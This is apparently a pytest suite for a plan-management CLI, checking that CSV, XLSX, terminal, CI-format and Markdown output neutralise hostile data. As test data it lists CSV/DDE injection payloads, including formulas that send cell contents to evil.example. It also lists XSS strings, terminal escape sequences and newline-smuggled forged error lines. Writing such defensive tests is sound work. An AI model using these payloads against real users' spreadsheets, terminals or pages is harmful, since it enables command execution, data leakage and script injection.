"""Safe output: plan data never runs as a formula, never paints a terminal or a CI
log, and never breaks a machine-readable format (issue 7, "Safe output")."""

from __future__ import annotations

import csv
import io
import json
import os
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st

from conftest import SMALL_PLAN, run_planctl, write_plan

# Known CSV/DDE injection payloads (OWASP "CSV Injection", and common variants).
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"Klicka här\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "\t=1+1",
    "\r=1+1",
    "+46 70 123 45 67",
    "-fråga till regeringen",
    "@skr",
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]


def hostile_plan(root: Path, titles: list[str]) -> Path:
    files = dict(SMALL_PLAN)
    for i, title in enumerate(titles, start=100):
        files[f"plan/initiatives/INI-{i}.yaml"] = (
            f"id: INI-{i}\ntitle: {json.dumps(title)}\ngoals:\n  - FO1.1\nowner: skr\nstatus: proposed\n")
    return write_plan(root, files)


def test_known_csv_injection_payloads_are_neutralised(tmp_path: Path) -> None:
    root = hostile_plan(tmp_path / "repo", PAYLOADS)
    result = run_planctl("export", "csv", "-o", "plan.csv", cwd=root)
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO((root / "plan.csv").read_bytes().decode("utf-8-sig"), newline=""),
                           delimiter=";"))
    titles = {row[0]: row[1] for row in rows[1:]}
    for i, payload in enumerate(PAYLOADS, start=100):
        cell = titles[f"INI-{i}"]
        assert cell == "'" + payload, (payload, cell)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_never_holds_a_formula(tmp_path: Path) -> None:
    import openpyxl

    root = hostile_plan(tmp_path / "repo", PAYLOADS)
    assert run_planctl("export", "xlsx", "-o", "plan.xlsx", cwd=root).exit_code == 0
    book = openpyxl.load_workbook(root / "plan.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


NASTY = "[red]röd[/red] \x1b]0;pwned\x07\x1b[2J \u202eevil \"q\" 'a' <b>&amp; \\ \u0000"


def nasty_plan(root: Path) -> Path:
    files = dict(SMALL_PLAN)
    # A title that is also too long and ends with a full stop, so lint reports it (with its text).
    files["plan/initiatives/INI-100.yaml"] = (
        f"id: INI-100\ntitle: {json.dumps(NASTY.replace(chr(0), '') + ' x' * 50 + '.')}\n"
        "goals:\n  - FO1.1\nowner: skr\nstatus: proposed\nfärg: 1\n")
    return write_plan(root, files)


@pytest.mark.parametrize("command", [["check"], ["show", "INI-100"], ["list"], ["refs", "skr"], ["validate"]])
def test_terminal_output_prints_data_literally(tmp_path: Path, command: list[str]) -> None:
    root = nasty_plan(tmp_path / "repo")
    for env in ({}, {"FORCE_COLOR": "1", "COLUMNS": "300"}):
        result = run_planctl(*command, cwd=root, env=env)
        assert result.exit_code in (0, 1), result.stderr
        text = result.stdout + result.stderr
        assert "\x1b]" not in text and "\x07" not in text and "\x1b[2J" not in text
        assert "\u202e" not in text
        if command[0] in ("show", "list", "refs"):
            assert "[red]röd[/red]" in text.replace("\n", "")  # markup shown, not interpreted


@pytest.mark.parametrize("fmt", ["json", "sarif", "junit", "gitlab", "github"])
def test_machine_formats_stay_valid(tmp_path: Path, fmt: str) -> None:
    root = nasty_plan(tmp_path / "repo")
    result = run_planctl("check", "--format", fmt, cwd=root)
    assert result.exit_code == 1, result.stderr
    out = result.stdout
    if fmt in ("json", "sarif", "gitlab"):
        data = json.loads(out)
        assert "INI-100" in json.dumps(data)
    elif fmt == "junit":
        ET.fromstring(out.encode())
    else:
        lines = [line for line in out.splitlines() if line.startswith("::")]
        assert lines and all("\x1b" not in line and "\x07" not in line for line in lines)


LINK_PAYLOADS = [
    "https://evil.example", "http://evil.example/a?b=c", "Se https://evil.example/login nu", "www.evil.example",
    "evil.se", "ftp://evil.example", "//evil.example/x", "<https://evil.example>", "[klicka](https://evil.example)",
    "![bild](https://evil.example/x.png)", "[x]: https://evil.example", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<a href='https://evil.example'>x</a>", "javascript:alert(1)",
    "[x](javascript:alert(1))", "&lt;script&gt;", "@skr mention", "xmpp:evil.example",
]


@pytest.mark.parametrize("payload", LINK_PAYLOADS)
def test_markdown_text_never_becomes_a_link_or_html(payload: str) -> None:
    """Rendered by GitHub's cmark-gfm (autolink extension) and markdown-it with linkify."""
    import re

    import cmarkgfm
    from markdown_it import MarkdownIt

    from planctl.export.markdown import md

    text = f"- **INI-001** {md(payload)} — Skolverket\n\n| Id | Rubrik |\n|---|---|\n| INI-001 | {md(payload)} |\n"
    gfm = cmarkgfm.github_flavored_markdown_to_html(text, options=cmarkgfm.Options.CMARK_OPT_UNSAFE)
    linkified = MarkdownIt("commonmark", {"linkify": True, "html": True}).enable(["linkify", "table"]).render(text)
    for html in (gfm, linkified):
        assert not re.search(r"<(a|script|img)\b", html), (payload, html)
        assert html.count("<tr>") == 2


def test_markdown_export_and_report_on_stdout_print_data_literally(tmp_path: Path) -> None:
    root = hostile_plan(tmp_path / "repo", [NASTY.replace("\x00", "")])
    for command in (["export", "markdown"], ["report"]):
        result = run_planctl(*command, cwd=root)
        assert result.exit_code == 0, result.stderr
        assert "\x1b" not in result.stdout and "\x07" not in result.stdout and "\u202e" not in result.stdout


@pytest.mark.parametrize("argv", [
    ["set", "INI-100", "foo\nplanctl: error: forged=1"],
    ["export", "csv", "-c", "id,x\nplanctl: error: forged"],
    ["show", "INI-100\nplanctl: error: forged"],
    ["rm", "skr"],
])
def test_one_line_errors_cannot_be_forged(tmp_path: Path, argv: list[str]) -> None:
    root = nasty_plan(tmp_path / "repo")
    result = run_planctl(*argv, cwd=root)
    assert result.exit_code in (1, 2), result
    lines = result.stderr.splitlines()
    assert [line for line in lines if line.startswith("planctl: error:")] == lines[:1], result.stderr
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr


@settings(max_examples=int(os.environ.get("PLANCTL_FUZZ_EXAMPLES", "150")), deadline=None)
@given(st.lists(st.sampled_from(["https://", "http://", "www.", "evil", ".se", ".example", "@", "mailto:", "xmpp:",
                                 "[", "]", "(", ")", "<", ">", "!", "/", ":", "\\", "&", "#", ";", "`", "*", "_",
                                 "a", "1", " ", "\n", "|", "javascript:", "script", "img", "=", "'", '"', "-", "WWW.",
                                 "HTTPS://", "ftp://", "//", "~", "å", "2", "localhost", "xn--", ".com", "%2e"]),
                max_size=25).map("".join))
def test_no_text_becomes_a_link_or_html_in_markdown(text: str) -> None:
    """Any mix of link and markup fragments, rendered by cmark-gfm and markdown-it with linkify."""
    import re

    import cmarkgfm
    from markdown_it import MarkdownIt

    from planctl.export.markdown import md

    rendered = f"- **INI-001** {md(text)}\n\n| Id | Rubrik |\n|---|---|\n| INI-001 | {md(text)} |\n"
    gfm = cmarkgfm.github_flavored_markdown_to_html(rendered, options=cmarkgfm.Options.CMARK_OPT_UNSAFE)
    linkified = MarkdownIt("commonmark", {"linkify": True, "html": True}).enable(["linkify", "table"]).render(rendered)
    for html in (gfm, linkified):
        links = re.findall(r"<a href=\"([^\"]*)\"", html)
        # GitHub still links an e-mail or XMPP address (it joins escaped text before it looks for
        # them): an address, never a page. A `_` just before `mailto:` (`_mailto:@x.se`) ends up
        # glued to the front of that same address link's href, which no escaping can prevent.
        assert all(link.lstrip("_").startswith(("mailto:", "xmpp:")) for link in links), (text, html)
        assert not re.search(r"<(script|img)\b", html), (text, html)
        assert html.count("<tr>") == 2 and html.count("<li>") == 1, (text, html)
